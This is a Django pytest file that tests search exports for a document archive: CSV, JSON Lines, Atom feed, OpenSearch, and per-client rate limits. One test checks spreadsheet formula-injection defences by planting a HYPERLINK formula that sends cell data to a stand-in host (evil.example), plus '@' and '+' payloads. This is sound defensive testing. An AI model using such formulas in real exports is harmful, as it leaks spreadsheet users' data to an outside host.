"""Any search taken away: CSV (safe in a spreadsheet), JSON Lines, an Atom feed of new matches,
the OpenSearch description, and the per-client limit on them. Seeds and corpus pages."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import feedparser
import pytest
from django.http import StreamingHttpResponse

from archive.exports import CSV_COLUMNS
from archive.models import Document
from tests.search_fixtures import *  # noqa: F403

pytestmark = pytest.mark.django_db

OPENSEARCH = "{http://a9.com/-/spec/opensearch/1.1/}"


@pytest.fixture(autouse=True)
def generous_limit(settings):
    settings.ARCHIVE_EXPORTS_PER_WINDOW = 1000


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response))))


def search_identifiers(client, **params) -> list[str]:
    params = {"page_size": 100, **params}
    return [r.document.identifier for r in client.get("/search/", params).context["outcome"].results]


# CSV


def test_the_csv_export_lists_the_search_in_its_order_with_every_column(client_with_index):
    response = client_with_index.get("/search/export.csv", {"tag": "PGOV", "sort": "newest"})

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="quipu-search.csv"'
    header, *rows = csv_rows(response)
    assert header == CSV_COLUMNS
    assert [row[0] for row in rows] == search_identifiers(client_with_index, tag="PGOV", sort="newest")
    cable = dict(zip(header, rows[0], strict=True))
    document = Document.objects.get(identifier=cable["identifier"])
    assert cable["url"] == f"http://testserver{document.get_absolute_url()}"
    assert "PGOV" in cable["tags"].split("; ")
    assert cable["created"] == document.created.isoformat()


def test_a_formula_in_a_title_or_tag_is_exported_as_text(client_with_index):
    document = Document.objects.get(identifier="07LIMA3429")
    document.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    document.origin = "@SUM(1+1)"
    document.save(update_fields=["title", "origin"])
    document.tags.create(name="+CMD", slug="plus-cmd")

    rows = csv_rows(client_with_index.get("/search/export.csv", {"q": "07LIMA3429"}))
    row = dict(zip(rows[0], rows[1], strict=True))

    assert row["title"] == "'" + document.title
    assert row["origin"] == "'@SUM(1+1)"
    assert row["tags"].startswith("'+CMD; ")
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_an_export_past_the_limit_is_cut_and_says_so_in_its_last_line(client_with_index, settings):
    settings.ARCHIVE_EXPORT_MAX_ROWS = 5
    total = Document.objects.count()

    rows = csv_rows(client_with_index.get("/search/export.csv"))

    assert len(rows) == 1 + 5 + 1
    assert rows[-1] == [
        f"# Export cut at 5 of {total} documents (the limit is 5): narrow the search to export the rest."
    ]


def test_an_export_that_runs_out_of_time_says_so_instead_of_stopping_silently(client_with_index, settings):
    settings.ARCHIVE_SEARCH_TIME_BUDGET = 1e-9

    response = client_with_index.get("/search/export.csv", {"q": "security"})

    assert response.status_code == 503
    assert "took too long" in response.content.decode()


def test_a_malformed_search_is_refused_with_a_plain_message(client_with_index):
    for params in ({"q": '"unclosed'}, {"date_from": "2007-13"}):
        response = client_with_index.get("/search/export.csv", params)
        assert response.status_code == 400
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert response.content.decode().strip()


# JSON Lines


def test_the_jsonl_export_holds_the_apis_document_form(client_with_index):
    response = client_with_index.get("/search/export.jsonl", {"q": "VRAE"})

    lines = [json.loads(line) for line in body(response).splitlines()]
    assert [line["identifier"] for line in lines] == ["07LIMA3429"]
    api = client_with_index.get("/api/documents/07LIMA3429/").json()
    assert lines[0] == api


def test_a_cut_jsonl_export_ends_with_a_note(client_with_index, settings):
    settings.ARCHIVE_EXPORT_MAX_ROWS = 2

    lines = [json.loads(line) for line in body(client_with_index.get("/search/export.jsonl")).splitlines()]

    assert len(lines) == 3 and "Export cut at 2 of" in lines[-1]["export_note"]


# Atom feed


def test_the_feed_is_valid_atom_with_the_newest_imports_of_the_search(client_with_index):
    response = client_with_index.get("/search/feed.atom", {"tag": "PGOV"})

    feed = feedparser.parse(response.content)
    assert response["Content-Type"].startswith("application/atom+xml")
    assert not feed.bozo, feed.get("bozo_exception")
    tagged = Document.objects.filter(tags__name="PGOV").order_by("-imported_at", "-pk")
    assert len(feed.entries) == min(50, tagged.count())
    assert {e.link for e in feed.entries} == {f"http://testserver{d.get_absolute_url()}" for d in tagged[:50]}
    updated = [e.updated_parsed for e in feed.entries]
    assert updated == sorted(updated, reverse=True)
    assert all("PGOV" in {t.term for t in e.tags} for e in feed.entries)
    assert feed.feed.link == "http://testserver/search/?tag=PGOV"


def test_the_feed_holds_at_most_fifty_entries(client_with_index):
    feed = feedparser.parse(client_with_index.get("/search/feed.atom").content)

    assert Document.objects.count() < 50 or len(feed.entries) == 50
    assert len(feed.entries) == min(50, Document.objects.count())


def test_the_search_page_advertises_its_feed_and_links_its_exports(client_with_index):
    html = client_with_index.get("/search/", {"q": "security", "tag": "PREL", "page": "2"}).content.decode()

    assert (
        '<link rel="alternate" type="application/atom+xml" title="New documents matching this search" '
        'href="/search/feed.atom?q=security&amp;tag=PREL">'
    ) in html
    assert 'href="/search/export.csv?q=security&amp;tag=PREL" download>CSV</a>' in html
    assert 'href="/search/export.jsonl?q=security&amp;tag=PREL" download>JSON Lines</a>' in html


# OpenSearch


def test_the_opensearch_description_is_valid_and_linked_from_every_page(client_with_index):
    response = client_with_index.get("/opensearch.xml")

    assert response["Content-Type"].startswith("application/opensearchdescription+xml")
    root = ET.fromstring(response.content)
    assert root.tag == f"{OPENSEARCH}OpenSearchDescription"
    assert 0 < len(root.findtext(f"{OPENSEARCH}ShortName")) <= 16
    assert len(root.findtext(f"{OPENSEARCH}Description")) <= 1024
    templates = {url.get("type"): url.get("template") for url in root.findall(f"{OPENSEARCH}Url")}
    assert templates["text/html"].startswith("http://testserver/search/?q={searchTerms}")
    assert "{searchTerms}" in templates["application/json"]
    for page in ("/", "/search/", "/documents/07LIMA3429/"):
        html = client_with_index.get(page).content.decode()
        assert (
            'rel="search" type="application/opensearchdescription+xml" title="Quipu" href="/opensearch.xml"'
            in html
        )


# The per-client limit


def test_exports_past_the_per_client_limit_get_429_and_when_to_retry(client_with_index, settings):
    settings.ARCHIVE_EXPORTS_PER_WINDOW = 2

    statuses = [client_with_index.get(url).status_code for url in ("/search/export.csv", "/search/feed.atom")]
    refused = client_with_index.get("/search/export.jsonl")

    assert statuses == [200, 200]
    assert refused.status_code == 429
    assert 0 < int(refused["Retry-After"]) <= settings.ARCHIVE_EXPORT_WINDOW_SECONDS
    assert "Too many exports: at most 2" in refused.content.decode()


def test_the_limit_is_counted_per_client(client_with_index, settings):
    settings.ARCHIVE_EXPORTS_PER_WINDOW = 1

    first = client_with_index.get("/search/export.csv", REMOTE_ADDR="192.0.2.1")
    second = client_with_index.get("/search/export.csv", REMOTE_ADDR="192.0.2.1")
    other = client_with_index.get("/search/export.csv", REMOTE_ADDR="192.0.2.2")

    assert (first.status_code, second.status_code, other.status_code) == (200, 429, 200)


def test_the_search_page_itself_is_not_limited(client_with_index, settings):
    settings.ARCHIVE_EXPORTS_PER_WINDOW = 1

    statuses = {client_with_index.get("/search/", {"q": "peru"}).status_code for _ in range(3)}

    assert statuses == {200}
